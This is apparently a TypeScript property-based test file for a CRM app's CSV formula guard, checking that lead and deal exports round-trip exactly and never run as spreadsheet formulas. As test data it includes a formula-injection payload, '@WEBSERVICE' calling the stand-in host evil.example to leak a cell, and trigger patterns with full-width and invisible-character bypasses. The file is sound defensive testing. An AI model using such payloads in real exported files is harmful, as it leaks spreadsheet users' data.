/**
 * The CSV formula guard: export → import gives back every text the app accepts byte for byte, and
 * no exported cell runs as a formula in a spreadsheet, whether it splits the file on `,` or `;`
 * (or ignores quotes), and whatever blanks, invisible characters or full-width forms come first.
 */
import fc from 'fast-check';
import { parse } from 'csv-parse/browser/esm/sync';
import { describe, expect, it } from 'vitest';
import {
  exportDealsCsv,
  exportLeadsCsv,
  guardText,
  importDealsCsv,
  importLeadsCsv,
  NOT_IN_FILES,
  snakeCase,
  unguardText,
  type ImportResult,
} from '../../../src/lib/csv/interchange';
import { validate } from '../../../src/lib/domain/validate';
import { FIELDS, STAGES, type Deal, type FieldSpec, type Lead } from '../../../src/lib/domain';

// ------------------------------------------------------------------------------------------------
// What "runs as a formula" means to these tests: written independently of the module.

/** Blanks, invisible and format characters a spreadsheet may trim or a person not see; and `"`. */
const LEADING_IGNORED = /^[\p{White_Space}\p{Cc}\p{Cf}\p{Z}\p{Default_Ignorable_Code_Point}"]*/u;
/** Half-width and full-width formula triggers (and the small forms and minus sign). */
const TRIGGER = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B\u2212]/;

const startsFormula = (piece: string) =>
  !/^[A-Za-z0-9]/.test(piece) && TRIGGER.test(piece.replace(LEADING_IGNORED, ''));

/**
 * The pieces of an exported file a spreadsheet could take for cells: each cell after CSV parsing
 * and each `,`/`;`/tab/line-separated part of it, and each part of the raw text split on those
 * characters (a semicolon locale, or a reader that ignores quotes).
 */
function cellPieces(text: string): string[] {
  const cells = (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat();
  return [...cells, ...cells.flatMap((cell) => cell.split(/[,;\t\n\r]/)), ...text.split(/[,;\t\n\r]/)];
}

const formulaPieces = (text: string) => cellPieces(text).filter(startsFormula);

// ------------------------------------------------------------------------------------------------
// Records

const BASE_LEAD: Lead = {
  id: 'L1',
  partnerId: 'p1',
  repId: 'r1',
  createdAt: Date.parse('2026-01-05T04:30:00Z'),
  channel: 'paid',
  status: 'new',
  company: 'Acme Ltd',
  contactName: 'Asha Rao',
};
const BASE_DEAL: Deal = {
  id: 'D1',
  partnerId: 'p1',
  repId: 'r1',
  title: 'Annual licence',
  channel: 'paid',
  amount: 1_250_050,
  currency: 'INR',
  stage: 'proposal',
  probability: 50,
  createdAt: Date.parse('2026-01-06T04:30:00Z'),
  updatedAt: Date.parse('2026-01-06T04:30:00Z'),
};

/** The record as the app keeps it (validated: text trimmed), or undefined when the app refuses it. */
function accepted<K extends 'lead' | 'deal'>(
  kind: K,
  record: K extends 'lead' ? Lead : Deal,
): (K extends 'lead' ? Lead : Deal) | undefined {
  const result = validate(kind, record);
  return result.ok ? (result.value as K extends 'lead' ? Lead : Deal) : undefined;
}

/** An import's records, or its errors (which columns the file had is not compared here). */
function recordsOf<T>(result: ImportResult<T>): { ok: true; records: T[] } | { ok: false; errors: string[] } {
  return result.ok ? { ok: true, records: result.records } : result;
}

function leadsBack(leads: Lead[], tz = 'UTC') {
  const text = exportLeadsCsv(leads, tz);
  return { text, result: recordsOf(importLeadsCsv(text)) };
}

function dealsBack(deals: Deal[], tz = 'UTC') {
  const text = exportDealsCsv(deals, tz);
  return { text, result: recordsOf(importDealsCsv(text)) };
}

/** The exported cell of one column of the first record. */
function exportedCell(text: string, column: string): string {
  const [header, first] = parse(text, { bom: true }) as string[][];
  return first![header!.indexOf(column)]!;
}

// ------------------------------------------------------------------------------------------------
// Named regressions (the issue "CSV round trip alters data")

describe('CSV formula guard: the reported cases', () => {
  it("keeps a value that itself starts with an apostrophe before a trigger ('=SUM(A1))", () => {
    const lead = { ...BASE_LEAD, company: "'=SUM(A1)", contactName: "''=SUM(A1)" };
    const deal = { ...BASE_DEAL, title: "'=SUM(A1)" };
    const leads = leadsBack([lead]);
    const deals = dealsBack([deal]);
    expect(exportedCell(leads.text, 'company')).toBe("''=SUM(A1)");
    expect(exportedCell(leads.text, 'contact_name')).toBe("'''=SUM(A1)");
    expect(leads.result).toEqual({ ok: true, records: [lead] });
    expect(deals.result).toEqual({ ok: true, records: [deal] });
    expect(formulaPieces(leads.text + deals.text)).toEqual([]);
  });

  it("imports its own export of an accepted email '@WEBSERVICE(...)", () => {
    const email = `'@WEBSERVICE("http://evil.example/?leak="&A1)`;
    const lead = { ...BASE_LEAD, email };
    expect(accepted('lead', lead)).toEqual(lead); // the app accepts it as it is
    const { text, result } = leadsBack([lead]);
    expect(exportedCell(text, 'email')).toBe(`''@WEBSERVICE("http://evil.example/?leak="&A1)`);
    expect(result).toEqual({ ok: true, records: [lead] });
    expect(formulaPieces(text)).toEqual([]);
  });

  it('neutralises a cell that becomes a formula when split on ";" (Acme;=1+1)', () => {
    const lead = { ...BASE_LEAD, company: 'Acme;=1+1', contactName: 'Acme, =1+1', email: 'a;@x.example' };
    const { text, result } = leadsBack([lead]);
    expect(exportedCell(text, 'company')).toBe("Acme;'=1+1");
    expect(exportedCell(text, 'contact_name')).toBe("Acme,' =1+1");
    expect(exportedCell(text, 'email')).toBe("a;'@x.example");
    expect(
      text
        .split('\n')[1]!
        .split(';')
        .slice(1)
        .every((piece) => piece.startsWith("'")),
    ).toBe(true);
    expect(result).toEqual({ ok: true, records: [lead] });
    expect(formulaPieces(text)).toEqual([]);
  });

  it('neutralises a trigger after leading blanks ( =1+1), also in a record that was never trimmed', () => {
    // As the app keeps it, " =1+1" is trimmed to "=1+1"; inside the text the blank stays.
    const kept = accepted('lead', { ...BASE_LEAD, company: ' =1+1', contactName: 'Acme; =1+1' })!;
    expect(kept.company).toBe('=1+1');
    const { text, result } = leadsBack([kept]);
    expect(exportedCell(text, 'company')).toBe("'=1+1");
    expect(exportedCell(text, 'contact_name')).toBe("Acme;' =1+1");
    expect(result).toEqual({ ok: true, records: [kept] });
    expect(formulaPieces(text)).toEqual([]);
    // A record straight from elsewhere, never validated, is still exported safely.
    const raw = leadsBack([{ ...BASE_LEAD, company: ' =1+1', contactName: '\u00A0\t@x' }]).text;
    expect(exportedCell(raw, 'company')).toBe("' =1+1");
    expect(exportedCell(raw, 'contact_name')).toBe("'\u00A0\t'@x");
    expect(formulaPieces(raw)).toEqual([]);
  });

  it('neutralises triggers after invisible characters (\\u200B=1+1, BOM, NBSP, word joiner)', () => {
    const lead = {
      ...BASE_LEAD,
      company: '\u200B=1+1',
      contactName: 'Acme;\uFEFF+1',
      email: '\u2060@x.example',
    };
    const deal = { ...BASE_DEAL, title: 'Big;\u00A0-1\n\u3000=1' };
    const leads = leadsBack([lead]);
    const deals = dealsBack([deal]);
    expect(exportedCell(leads.text, 'company')).toBe("'\u200B=1+1");
    expect(exportedCell(leads.text, 'contact_name')).toBe("Acme;'\uFEFF+1");
    expect(exportedCell(leads.text, 'email')).toBe("'\u2060@x.example");
    expect(exportedCell(deals.text, 'title')).toBe("Big;'\u00A0-1\n'\u3000=1");
    expect(leads.result).toEqual({ ok: true, records: [lead] });
    expect(deals.result).toEqual({ ok: true, records: [deal] });
    expect(formulaPieces(leads.text + deals.text)).toEqual([]);
  });

  it('neutralises full-width triggers (＝1+1, ＋, －, ＠)', () => {
    const lead = { ...BASE_LEAD, company: '＝1+1', contactName: 'Acme;＠SUM(1)' };
    const deal = { ...BASE_DEAL, title: '－1, ＋1' };
    const leads = leadsBack([lead]);
    const deals = dealsBack([deal]);
    expect(exportedCell(leads.text, 'company')).toBe("'＝1+1");
    expect(exportedCell(leads.text, 'contact_name')).toBe("Acme;'＠SUM(1)");
    expect(exportedCell(deals.text, 'title')).toBe("'－1,' ＋1");
    expect(leads.result).toEqual({ ok: true, records: [lead] });
    expect(deals.result).toEqual({ ok: true, records: [deal] });
    expect(formulaPieces(leads.text + deals.text)).toEqual([]);
  });

  it('maps apostrophes one to one: each apostrophe-led value comes back as it was', () => {
    const values = [
      "'",
      "''",
      "'''",
      "' ",
      "' x",
      "'x",
      "''x",
      "'=",
      "''=",
      "a;'",
      "a;''",
      "a,'b",
      "x\n'",
      "'\u200B=1",
      "\u200B'=1",
      '"=1',
      'a;"\'=1',
    ];
    for (const value of values) {
      expect(unguardText(guardText(value)), JSON.stringify(value)).toBe(value);
    }
    expect(guardText("'")).toBe("''");
    expect(guardText("a;''")).toBe("a;'''");
    const leads = values.map((value, index) => ({
      ...BASE_LEAD,
      id: `L${index}`,
      company: `${value}|`,
      contactName: `|${value}|`,
    }));
    expect(leadsBack(leads).result).toEqual({ ok: true, records: leads });
  });

  it('keeps an apostrophe a person typed before ordinary text, and reads files of the old guard', () => {
    const text = [
      'id,partner_id,rep_id,created_at,channel,status,company,contact_name,phone,email,qualified_at',
      `L1,p1,r1,2026-01-05T10:00:00Z,paid,new,"Rock,'n roll",'Asha,'+91 98765 43210,,`,
      `L2,p1,r1,2026-01-05T10:00:00Z,paid,new,"'=HYPERLINK(""http://x"")",'@mention,,,`,
    ].join('\n');
    const result = importLeadsCsv(text);
    expect(result.ok && result.records.map((lead) => [lead.company, lead.contactName, lead.phone])).toEqual([
      ["Rock,'n roll", "'Asha", '+91 98765 43210'],
      ['=HYPERLINK("http://x")', '@mention', undefined],
    ]);
  });

  it('keeps numbers unescaped: amounts and probabilities are written as numbers', () => {
    const { text } = dealsBack([{ ...BASE_DEAL, title: '=1' }]);
    expect(exportedCell(text, 'amount')).toBe('12500.50');
    expect(exportedCell(text, 'probability')).toBe('50');
    expect(exportedCell(text, 'title')).toBe("'=1");
  });
});

// ------------------------------------------------------------------------------------------------
// Properties

/** Characters that matter here, often; any code point of Unicode, sometimes. */
const SPECIAL = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '﹦',
  '﹢',
  '﹣',
  '﹫',
  '\u2212',
  '⁼',
  "'",
  "''",
  '"',
  ';',
  ',',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00A0',
  '\u200B',
  '\u200D',
  '\uFEFF',
  '\u2060',
  '\u180E',
  '\u3000',
  '\u2028',
  '\u202E',
  '\u3164',
  '\u0000',
  '\u001F',
  'a',
  'Z',
  'é',
  '1',
  '(',
  ')',
  '.',
  '#',
  '|',
  '%',
  '!',
  '😀',
];
const anyChar = fc.string({ unit: 'binary', minLength: 1, maxLength: 1 });
const unit = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...SPECIAL) },
  { weight: 2, arbitrary: anyChar },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }) },
);
const anyText = fc.string({ unit, maxLength: 24 });

const phoneText = fc
  .tuple(
    fc.constantFrom('', '+', '-', ' ', '(', "'"),
    fc.string({ unit: fc.constantFrom(...'+0123456789 ()./-'), minLength: 4, maxLength: 24 }),
  )
  .map(([first, rest]) => first + rest);
const emailPart = fc.string({
  unit: fc.oneof(fc.constantFrom(...SPECIAL.filter((char) => !/[\s@]/.test(char))), anyChar),
  minLength: 1,
  maxLength: 8,
});
const emailText = fc.oneof(
  fc.tuple(emailPart, emailPart, emailPart).map(([local, domain, top]) => `${local}@${domain}.${top}`),
  fc
    .tuple(fc.constantFrom('=', '@', ' ', "'", '＠', '\u200B', ';'), emailPart)
    .map(([first, rest]) => `${first}${rest}@x.example`),
);

// ------------------------------------------------------------------------------------------------
// Records over the schema's whole range, derived from its field tables: a field added to the schema
// is generated here without a change, so a field the files leave out fails the round trip below.

/** Hindi, as reps write it: conjuncts, matras, the danda, Devanagari digits. */
const HINDI = ['क', 'ष', 'त्र', 'ज्ञ', 'ि', 'ी', 'ं', '्', 'ॉ', '।', '०', '९', 'ग्राहक', 'बातचीत', ' '];
const noteUnit = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HINDI) },
  { weight: 3, arbitrary: unit },
  { weight: 1, arbitrary: fc.constantFrom('"', ',', '\n', '\r\n') },
);

/** Text of a field that holds at most `max` characters: short and hostile, Hindi, or as long as it may be. */
function textArb(max: number): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: anyText },
    { weight: 2, arbitrary: fc.string({ unit: noteUnit, minLength: 1, maxLength: 60 }) },
    // Cut to the longest allowed, never between the two halves of a character: a lone surrogate is
    // no text (UTF-8, what files are, cannot hold one).
    {
      weight: 1,
      arbitrary: fc
        .string({ unit: noteUnit, minLength: max - 40, maxLength: max + 10 })
        .map((text) => text.slice(0, max).replace(/[\uD800-\uDBFF]$/, '')),
    },
  );
}

const ID_FIRST = [...'ABCXYZabcxyz0189'];
const ID_REST = [...'ABCXYZabcxyz0189_.:-'];
const idArb = fc
  .tuple(fc.constantFrom(...ID_FIRST), fc.string({ unit: fc.constantFrom(...ID_REST), maxLength: 63 }))
  .map(([first, rest]) => first + rest);
/** Every instant the schema accepts: 1970 to 2100. */
const instantArb = fc.oneof(
  fc.integer({ min: 0, max: Date.UTC(2100, 0, 1) }),
  fc.integer({ min: Date.UTC(2024, 0, 1), max: Date.UTC(2028, 0, 1) }),
);
const stageLogArb = fc.array(fc.record({ stage: fc.constantFrom(...STAGES), at: instantArb, by: idArb }), {
  minLength: 1,
  maxLength: 6,
});

/** Values of one field of the schema, over what it accepts (validation then trims text). */
function fieldArb(spec: FieldSpec): fc.Arbitrary<unknown> {
  switch (spec.kind) {
    case 'id':
      return idArb;
    case 'text':
      return textArb(spec.maxLength ?? 1000);
    case 'email':
      return emailText;
    case 'phone':
      return phoneText;
    case 'instant':
      return instantArb;
    case 'money':
      return fc.oneof(
        fc.integer({ min: 0, max: 10_000_000 }),
        fc.integer({ min: 0, max: Number.MAX_SAFE_INTEGER }),
      );
    case 'percent':
      return fc.integer({ min: 0, max: 100 });
    case 'currency':
      return fc.constantFrom(...Intl.supportedValuesOf('currency'));
    case 'enum':
      return fc.constantFrom(...(spec.values ?? []));
    case 'stageLog':
      return stageLogArb;
    case 'timeZone':
    case 'stageProbabilities':
      throw new Error(`no lead or deal field is a ${spec.kind}: generate it here when one is`);
    default: {
      const unknownKind: never = spec.kind;
      throw new Error(`a field of kind ${String(unknownKind)} has no generator`);
    }
  }
}

/** A candidate record: every field of the table, each optional one sometimes absent. */
function candidateArb(fields: Record<string, FieldSpec>): fc.Arbitrary<Record<string, unknown>> {
  const model = Object.fromEntries(
    Object.entries(fields).map(([name, spec]) => [
      name,
      spec.optional ? fc.option(fieldArb(spec), { nil: undefined, freq: 3 }) : fieldArb(spec),
    ]),
  );
  return fc
    .record(model)
    .map((record) => Object.fromEntries(Object.entries(record).filter(([, value]) => value !== undefined)));
}

/** Made to hold the deal invariants (closed date exactly when closed, not before creation; lost reason only when lost). */
function dealInvariants(record: Record<string, unknown>): Record<string, unknown> {
  const deal = { ...record };
  const createdAt = deal['createdAt'] as number;
  if (deal['stage'] === 'won' || deal['stage'] === 'lost')
    deal['closedAt'] = Math.max(createdAt, (deal['closedAt'] as number | undefined) ?? createdAt);
  else delete deal['closedAt'];
  if (deal['stage'] !== 'lost') delete deal['lostReason'];
  return deal;
}

/** Records as the app holds them (validated: text trimmed); the few candidates it refuses are skipped. */
function schemaRecordArb<K extends 'lead' | 'deal'>(kind: K): fc.Arbitrary<K extends 'lead' ? Lead : Deal> {
  return candidateArb(FIELDS[kind])
    .map((record) => (kind === 'deal' ? dealInvariants(record) : record))
    .map((record) => validate(kind, record))
    .filter((result) => result.ok)
    .map((result) => (result as { ok: true; value: K extends 'lead' ? Lead : Deal }).value);
}

/** What a file holds of these records: every field of each one not deleted (the spec's rule). */
const inFiles = <T extends { deletedAt?: number }>(records: T[]): T[] =>
  records.filter((record) => record.deletedAt === undefined);

const EXPORT_ZONES = [
  'UTC',
  'Asia/Kolkata',
  'America/New_York',
  'Asia/Kathmandu',
  'America/Santiago',
  'Australia/Lord_Howe',
  'Africa/Monrovia',
] as const;

describe('CSV formula guard: properties', () => {
  it('guardText is undone by unguardText and leaves no formula, for any string at all', () => {
    fc.assert(
      fc.property(
        fc.oneof(anyText, fc.string({ unit: 'binary' }), fc.string({ unit, maxLength: 200 })),
        (text) => {
          const cell = guardText(text);
          expect(unguardText(cell)).toBe(text);
          expect([cell, ...cell.split(/[,;\t\n\r]/)].filter(startsFormula)).toEqual([]);
        },
      ),
      { seed: 20_260_115, numRuns: 20_000 },
    );
  });

  it('export → import gives back every field of every record the app holds, and no exported piece runs as a formula', () => {
    const seen = { lead: new Set<string>(), deal: new Set<string>() };
    fc.assert(
      fc.property(
        fc.uniqueArray(schemaRecordArb('lead'), { minLength: 1, maxLength: 4, selector: (lead) => lead.id }),
        fc.uniqueArray(schemaRecordArb('deal'), { minLength: 1, maxLength: 4, selector: (deal) => deal.id }),
        fc.constantFrom(...EXPORT_ZONES),
        (leads, deals, tz) => {
          for (const record of leads) for (const field of Object.keys(record)) seen.lead.add(field);
          for (const record of deals) for (const field of Object.keys(record)) seen.deal.add(field);
          const leadsText = exportLeadsCsv(leads, tz);
          const dealsText = exportDealsCsv(deals, tz);
          expect(recordsOf(importLeadsCsv(leadsText))).toEqual({ ok: true, records: inFiles(leads) });
          expect(recordsOf(importDealsCsv(dealsText))).toEqual({ ok: true, records: inFiles(deals) });
          expect(formulaPieces(leadsText)).toEqual([]);
          expect(formulaPieces(dealsText)).toEqual([]);
        },
      ),
      { seed: 20_260_106, numRuns: 400 },
    );
    // Guard: every field of the schema was generated with a value, so each was compared.
    expect([...seen.lead].sort()).toEqual(Object.keys(FIELDS.lead).sort());
    expect([...seen.deal].sort()).toEqual(Object.keys(FIELDS.deal).sort());
  }, 60_000);

  it('writes a column for every field of the schema but deletedAt (a deleted record is left out whole)', () => {
    expect(NOT_IN_FILES).toEqual(['deletedAt']);
    const header = (text: string) => text.split('\n')[0]!.split(',');
    expect(header(exportLeadsCsv([])).sort()).toEqual(
      Object.keys(FIELDS.lead)
        .filter((field) => field !== 'deletedAt')
        .map(snakeCase)
        .sort(),
    );
    expect(header(exportDealsCsv([])).sort()).toEqual(
      Object.keys(FIELDS.deal)
        .filter((field) => field !== 'deletedAt')
        .map(snakeCase)
        .sort(),
    );
  });
});
